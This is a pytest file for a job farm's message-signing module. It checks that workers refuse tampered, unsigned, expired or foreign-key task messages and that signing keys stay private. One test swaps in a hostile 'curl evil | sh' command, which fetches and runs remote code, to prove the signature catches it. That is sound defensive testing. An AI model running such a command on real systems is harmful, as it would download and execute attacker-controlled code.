"""Signed task messages, without services: what a worker accepts and what it refuses, and why."""

from __future__ import annotations

import base64
import json
import stat
import time
from pathlib import Path

import pytest

from shared.schemas import JobSpec, TaskMessage
from shared.settings import Settings
from shared.signing import (
    DOMAIN,
    PUBLIC_KEY_FILE,
    MessageRefused,
    Refusal,
    Signer,
    Verifier,
    master_private_key,
    new_private_key,
    parse_private_key,
    parse_public_key,
    private_key_text,
    public_key_text,
    worker_public_key,
)

MAX_AGE = 3600.0


def _message(command: list[str] | None = None, **extra: object) -> TaskMessage:
    spec = JobSpec(command=command or ["python", "train.py"], queue="cpu")
    return TaskMessage(job_id=7, attempt=1, spec=spec, **extra)  # type: ignore[arg-type]


@pytest.fixture
def signer() -> Signer:
    return Signer(new_private_key())


@pytest.fixture
def verifier(signer: Signer) -> Verifier:
    return Verifier(signer.public_key, MAX_AGE)


def _refusal(verifier: Verifier, raw: object) -> Refusal:
    with pytest.raises(MessageRefused) as caught:
        verifier.verify(raw)
    return caught.value.reason


def test_a_signed_message_comes_back_exactly(signer: Signer, verifier: Verifier) -> None:
    message = _message(datasets=[])
    raw = signer.sign(message).model_dump()
    assert verifier.verify(raw) == message


def test_a_changed_command_breaks_the_signature(signer: Signer, verifier: Verifier) -> None:
    raw = signer.sign(_message(["python", "train.py"])).model_dump()
    payload = json.loads(raw["payload"])
    payload["spec"]["command"] = ["sh", "-c", "curl evil | sh"]
    raw["payload"] = json.dumps(payload)
    assert _refusal(verifier, raw) is Refusal.BAD_SIGNATURE


def test_a_flipped_signature_bit_is_refused(signer: Signer, verifier: Verifier) -> None:
    raw = signer.sign(_message()).model_dump()
    raw["signature"] = ("B" if raw["signature"][0] == "A" else "A") + raw["signature"][1:]
    assert _refusal(verifier, raw) is Refusal.BAD_SIGNATURE


def test_a_message_from_before_signing_is_unsigned(verifier: Verifier) -> None:
    # The task argument as masters before this change sent it: the message itself.
    assert _refusal(verifier, _message().model_dump(mode="json")) is Refusal.UNSIGNED
    assert _refusal(verifier, None) is Refusal.UNSIGNED
    assert _refusal(verifier, "a string") is Refusal.UNSIGNED


def test_another_masters_key_is_refused_by_name(verifier: Verifier) -> None:
    other = Signer(new_private_key())
    assert _refusal(verifier, other.sign(_message()).model_dump()) is Refusal.OTHER_KEY
    # Claiming our key id does not help: the signature is checked against our key.
    forged = other.sign(_message()).model_dump() | {"key_id": verifier.key_id}
    assert _refusal(verifier, forged) is Refusal.BAD_SIGNATURE


def test_malformed_envelopes_are_refused(signer: Signer, verifier: Verifier) -> None:
    good = signer.sign(_message()).model_dump()
    assert _refusal(verifier, good | {"extra": 1}) is Refusal.MALFORMED
    assert _refusal(verifier, good | {"signature": "not base64 !"}) is Refusal.BAD_SIGNATURE
    assert _refusal(verifier, {"signature": "x"}) is Refusal.MALFORMED


def test_a_signed_payload_this_worker_cannot_read_is_malformed() -> None:
    # Signed by our master, so no attack, yet no task this worker can read (a newer master's, say).
    key = new_private_key()
    payload = json.dumps({"job_id": 1})
    signature = base64.b64encode(key.sign(DOMAIN + payload.encode())).decode()
    own = Verifier(key.public_key(), MAX_AGE)
    envelope = {"payload": payload, "signature": signature, "key_id": own.key_id}
    assert _refusal(own, envelope) is Refusal.MALFORMED


def test_old_messages_expire(signer: Signer, verifier: Verifier) -> None:
    old = signer.sign(_message(issued_at=time.time() - MAX_AGE - 1)).model_dump()
    assert _refusal(verifier, old) is Refusal.EXPIRED
    fresh = signer.sign(_message(issued_at=time.time() - MAX_AGE + 60)).model_dump()
    assert verifier.verify(fresh).job_id == 7
    future = signer.sign(_message(issued_at=time.time() + 3600)).model_dump()
    assert _refusal(verifier, future) is Refusal.EXPIRED


def test_the_master_makes_its_key_once_owner_only_and_publishes_the_public_half(tmp_path: Path) -> None:
    settings = Settings(data_dir=tmp_path)
    first = master_private_key(settings)
    again = master_private_key(settings)
    assert private_key_text(first) == private_key_text(again)
    assert settings.signing_key_path == tmp_path / "signing.key"
    assert stat.S_IMODE(settings.signing_key_path.stat().st_mode) == 0o600
    assert (tmp_path / PUBLIC_KEY_FILE).read_text().strip() == public_key_text(first.public_key())
    # A worker on the same machine finds it there; a setting wins over the file.
    found = worker_public_key(Settings(data_dir=tmp_path))
    assert found is not None and public_key_text(found) == public_key_text(first.public_key())
    other = public_key_text(new_private_key().public_key())
    named = worker_public_key(Settings(data_dir=tmp_path, signing_public_key=other))
    assert named is not None and public_key_text(named) == other


def test_a_key_from_the_setting_is_used_and_bad_keys_are_named(tmp_path: Path) -> None:
    key = new_private_key()
    settings = Settings(data_dir=tmp_path, signing_key=private_key_text(key))
    assert public_key_text(master_private_key(settings).public_key()) == public_key_text(key.public_key())
    assert not settings.signing_key_path.exists()
    with pytest.raises(ValueError, match="TRAINFARM_SIGNING_PUBLIC_KEY"):
        parse_public_key("too-short")
    with pytest.raises(ValueError, match="TRAINFARM_SIGNING_KEY"):
        master_private_key(Settings(data_dir=tmp_path, signing_key="AAAA"))
    assert worker_public_key(Settings(data_dir=tmp_path / "elsewhere")) is None


def test_workers_and_flower_started_with_the_farms_settings_never_get_the_masters_keys(
    tmp_path: Path,
) -> None:
    from trainfarm.services.farm import FlowerProcess, MasterProcess, WorkerProcess

    key = new_private_key()
    settings = Settings(
        data_dir=tmp_path,
        signing_key=private_key_text(key),
        signing_public_key=public_key_text(key.public_key()),
        session_secret="s" * 40,
        metrics_token="m" * 40,
    )
    master_only = {"TRAINFARM_SIGNING_KEY", "TRAINFARM_SESSION_SECRET", "TRAINFARM_METRICS_TOKEN"}
    assert master_only <= set(MasterProcess(tmp_path, settings)._env())
    for child in (WorkerProcess(tmp_path, settings), FlowerProcess(tmp_path, settings)):
        env = child._env()
        assert not master_only & set(env), type(child).__name__
        assert env["TRAINFARM_SIGNING_PUBLIC_KEY"] == public_key_text(key.public_key())


def test_admin_signing_key_prints_the_masters_public_key_and_makes_new_pairs(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from shared.settings import get_settings
    from trainfarm.cli import app

    def cli(*args: str) -> tuple[int, str]:
        get_settings.cache_clear()  # TRAINFARM_DATA_DIR is read through it
        try:
            result = CliRunner().invoke(
                app, ["admin", "signing-key", *args], env={"TRAINFARM_DATA_DIR": str(tmp_path)}
            )
        finally:
            get_settings.cache_clear()
        assert "Traceback" not in result.output, result.output
        return result.exit_code, result.output.strip()

    # The master's own key, made in its data dir if there is none, and the same on the next call.
    code, printed = cli()
    assert code == 0 and printed == (tmp_path / PUBLIC_KEY_FILE).read_text().strip()
    assert cli() == (0, printed)

    target = tmp_path / "secrets" / "trainfarm_signing_key"
    code, public = cli("--new-into", str(target))
    assert code == 0 and stat.S_IMODE(target.stat().st_mode) == 0o600
    made = parse_private_key(target.read_text())
    assert public == public_key_text(made.public_key()) != printed
    # A key that exists is never replaced: the farm's workers may trust it.
    code, said = cli("--new-into", str(target))
    assert code != 0 and "--new-into" in said and "exists" in said
    assert (
        public_key_text(
            master_private_key(
                Settings(data_dir=tmp_path, signing_key=target.read_text().strip())
            ).public_key()
        )
        == public
    )
